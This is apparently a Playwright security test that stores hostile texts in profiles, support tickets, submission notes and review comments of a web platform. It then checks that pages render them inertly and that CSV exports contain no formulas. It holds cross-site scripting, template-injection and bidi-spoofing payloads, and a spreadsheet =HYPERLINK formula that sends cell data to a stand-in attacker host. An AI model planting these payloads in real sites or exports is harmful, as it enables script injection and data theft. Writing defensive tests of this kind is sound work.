import type { Browser } from '@playwright/test';
import type { ReviewDetail, Submission } from '@platform/contracts';
import { rejectNoticeStream } from '../../../shell/e2e/support/mock-api.ts';
import { logIn, logInAdministrator } from '../support/accounts.ts';
import { describeProblems, type AttackPart, type Finding, type Target } from '../support/attack.ts';
import { EVIL_HOST, launchBrowser, openWindow, type Window } from '../support/browser.ts';
import { postOk, type Client } from '../support/client.ts';
import { findFormulas, SEPARATORS } from '../support/csv-reader.ts';

/** A task of the free blueprint whose items have a note. */
const TASK = 'w01-03';
const WIDTHS = [360, 1280] as const;

/** Texts that run or load something where they are taken for markup, and texts that leave their place. */
const TEXTS = {
  script: `<script>window.attacked=1</script><img src="//${EVIL_HOST}/a" onerror="window.attacked=1">`,
  attribute: `"><svg onload=window.attacked=1><a href="javascript:window.attacked=1">x</a>`,
  template: `{{constructor.constructor('window.attacked=1')()}} \${window.attacked=1} <%= 1 %>`,
  link: `[x](javascript:window.attacked=1) ![y](http://${EVIL_HOST}/b) http://${EVIL_HOST}/c`,
  bidi: `paid \u202e00.000,1$ \u2067left behind`,
  long: `${'W'.repeat(90)}${'a\u0301\u0302\u0303\u0304'.repeat(2)}`,
  formula: `=HYPERLINK("http://${EVIL_HOST}/?"&A1,"x")`,
  hiddenFormula: `hello;=1+1\t=2+2`,
  blankFormula: `"  =2+2"`,
} as const;
const ALL = Object.values(TEXTS).map((text) => text.replaceAll('\t', ' '));

/** Where the hostile texts ended up. */
type Stored = {
  readonly member: Client;
  readonly memberPaths: string[];
  readonly adminPaths: string[];
  count: number;
};

/** Stores hostile texts wherever a member or a reviewer can, and looks at them as both. */
export const storedTexts: AttackPart = {
  name: 'stored-texts',
  share: 0,
  async run(target) {
    const administrator = await logInAdministrator(target);
    const stored = await storeTexts(target, administrator);
    const browser = await launchBrowser(target);
    try {
      return [
        await look('as the member', browser, stored.member, stored.memberPaths, stored.count),
        await look('as an administrator', browser, administrator, stored.adminPaths, stored.count),
        await exportLists(administrator),
      ];
    } finally {
      await browser.close();
    }
  },
};

/** Each rejection counts as an answer too: a text that is not stored does no harm. */
async function storeTexts(target: Target, administrator: Client): Promise<Stored> {
  const user = await target.seeder.skilledMember();
  const member = await logIn(target, user);
  let count = 0;
  const store = async (path: string, body: unknown) => {
    count += 1;
    return member.post(path, body);
  };
  for (const fullName of ALL)
    await store('/api/user/profile', {
      fullName: fullName.slice(0, 100),
      email: `${user.username}@example.org`,
      phoneNumber: '+1 555',
    });
  const memberPaths = ['/dashboard', '/dashboard/settings', '/dashboard/support', '/dashboard/submissions'];
  const adminPaths = ['', '/users', '/tickets', '/reviews', '/outbox', '/audit'].map(
    (path) => `/dashboard/admin${path}`,
  );
  adminPaths.push(`/dashboard/admin/users/${user.id}`);
  const tickets = await openTickets(target, store);
  memberPaths.push(...tickets.map((id) => `/dashboard/support/${id}`));
  adminPaths.push(...tickets.map((id) => `/dashboard/admin/tickets/${id}`));
  const submission = await handInWork(member);
  await commentWork(administrator, submission);
  memberPaths.push(`/dashboard/submissions/${submission.id}`, `/dashboard/tasks/${TASK}/work`);
  adminPaths.push(`/dashboard/admin/reviews/${submission.id}`);
  return { member, memberPaths, adminPaths, count: count + submission.items.length };
}

/** Opens tickets with every text as name, subject and message. Returns the ids of a few of them. */
async function openTickets(
  { visitor }: Target,
  store: (path: string, body: unknown) => Promise<{ status: number; text: string }>,
): Promise<string[]> {
  const ids: string[] = [];
  for (const text of ALL) {
    const { status, text: answer } = await store('/api/user/tickets', {
      subject: text.slice(0, 140),
      message: `${text}\n${text}`,
    });
    if (status === 201) ids.push((JSON.parse(answer) as { id: string }).id);
    await visitor().post('/api/support/tickets', {
      name: text.slice(0, 100),
      email: 'sender@example.org',
      subject: text.slice(0, 140),
      message: text,
    });
  }
  return ids.slice(-4);
}

/** Hands in a submission whose notes are the texts. */
async function handInWork(member: Client): Promise<Submission> {
  const submission = await postOk<Submission>(member, `/api/tasks/${TASK}/work/start`);
  const { version } = await postOk<{ version: number }>(
    member,
    `/api/user/submissions/${submission.id}/draft`,
    {
      version: submission.version,
      editorId: 'attack',
      device: TEXTS.script.slice(0, 60),
      activeSeconds: 900,
      effort: { typed: 40, pasted: 0, inserted: 0 },
      items: submission.items.map(({ id, parts }, index) => ({
        itemId: id,
        cannotDo: null,
        answers: Object.fromEntries(
          parts.flatMap((part) =>
            part.type === 'choice'
              ? [
                  [
                    part.id,
                    { selected: [part.options[0]?.id], cannotTell: false, note: ALL[index % ALL.length] },
                  ],
                ]
              : [],
          ),
        ),
      })),
    },
  );
  const path = `/api/user/submissions/${submission.id}/submit`;
  const body = { version, assistance: { used: true, tools: TEXTS.script } };
  const { submittedAt } = await postOk<Submission>(member, path, body);
  // The first call only says that all answers are the same.
  if (submittedAt === null) await postOk(member, path, body);
  return submission;
}

/** Asks for changes with the texts as comments. */
async function commentWork(administrator: Client, { id }: Submission): Promise<void> {
  const { rubric, items } = await postOk<ReviewDetail>(administrator, `/api/admin/reviews/${id}/claim`);
  await postOk(administrator, `/api/admin/reviews/${id}/request-revision`, {
    criteria: Object.fromEntries(rubric.map((criterion) => [criterion.id, criterion.options[1]?.id])),
    comments: ALL.filter((text) => text.length >= 10).map((text, index) => ({
      itemId: items[index]?.id,
      part: null,
      target: null,
      span: null,
      text,
    })),
    text: ALL.join('\n'),
  });
}

/** Opens pages at two widths and reports what ran, was loaded, or left its place. */
async function look(
  attack: string,
  browser: Browser,
  client: Client,
  paths: readonly string[],
  requests: number,
): Promise<Finding> {
  const window = await openWindow(browser, client);
  const page = await window.context.newPage();
  // A stream would never let the network be idle.
  await rejectNoticeStream(page);
  const problems: string[] = [];
  let seen = 0;
  page.on('dialog', (dialog) => {
    problems.push(`${page.url()}: opens a dialog`);
    void dialog.dismiss();
  });
  for (const path of paths) {
    await page.setViewportSize({ width: WIDTHS[1], height: 900 });
    await page.goto(client.origin + path);
    await page.getByRole('heading', { level: 1 }).first().waitFor({ timeout: 15_000 });
    await page.waitForLoadState('networkidle');
    for (const width of WIDTHS) {
      await page.setViewportSize({ width, height: 900 });
      const { found, count } = await page.evaluate(inspectPage);
      problems.push(...found.map((problem) => `${path} at ${width} px ${problem}`));
      seen += count;
    }
    problems.push(...collect(window, path));
  }
  await window.context.close();
  if (seen === 0) problems.push('none of the texts was shown');
  return {
    attack: `script, markup, links and bidi controls, viewed ${attack}`,
    requests,
    outcome: describeProblems(problems, `${paths.length} pages at ${WIDTHS.length} widths show them as text`),
    holds: problems.length === 0,
  };
}

function collect({ report, evilRequests }: Window, path: string): string[] {
  return [
    ...evilRequests.splice(0).map((url) => `${path}: asks for ${url}`),
    ...report.violations.splice(0).map((violation) => `${path}: ${violation}`),
  ];
}

/** Runs in the page. Bidi controls may change the order of their own element only. */
function inspectPage(): { found: string[]; count: number } {
  const found: string[] = [];
  if ('attacked' in window) found.push(': a stored text ran');
  if (document.querySelector('img[onerror], svg[onload], a[href^="javascript:"]'))
    found.push(': markup was interpreted');
  const { scrollWidth, clientWidth } = document.documentElement;
  if (scrollWidth > clientWidth) found.push(`: the page is ${scrollWidth - clientWidth} px too wide`);
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  let count = 0;
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    const text = node.textContent ?? '';
    if (text.includes('window.attacked')) count += 1;
    if (!text.includes('\u202e')) continue;
    let element = node.parentElement;
    while (element && !isolates(element)) element = element.parentElement;
    if (!element) continue;
    const range = document.createRange();
    range.setStartAfter(node);
    range.setEndAfter(element);
    const behind = range.toString().trim();
    if (behind !== '') found.push(`before "${behind.slice(0, 20)}": a bidi control reorders what follows`);
  }
  return { found, count };

  function isolates(element: Element): boolean {
    const { display, unicodeBidi } = getComputedStyle(element);
    return display !== 'inline' || /isolate|plaintext/.test(unicodeBidi);
  }
}

/** Reads every export as spreadsheets with other separators do. */
async function exportLists(administrator: Client): Promise<Finding> {
  const names = [
    'users',
    'tickets',
    'withdrawals',
    'purchases',
    'verifications',
    'reviews',
    'outbox',
    'audit',
  ];
  const problems: string[] = [];
  for (const name of names) {
    const { status, text } = await administrator.get(`/api/admin/${name}.csv`);
    if (status !== 200) problems.push(`${name}.csv: ${status}`);
    for (const separator of SEPARATORS)
      problems.push(
        ...findFormulas(text, separator).map(
          (cell) =>
            `${name}.csv read with ${JSON.stringify(separator)}: ${JSON.stringify(cell.slice(0, 30))}`,
        ),
      );
  }
  return {
    attack: 'formulas in exports, read with three separators',
    requests: names.length,
    outcome: describeProblems(problems, 'no cell is a formula'),
    holds: problems.length === 0,
  };
}
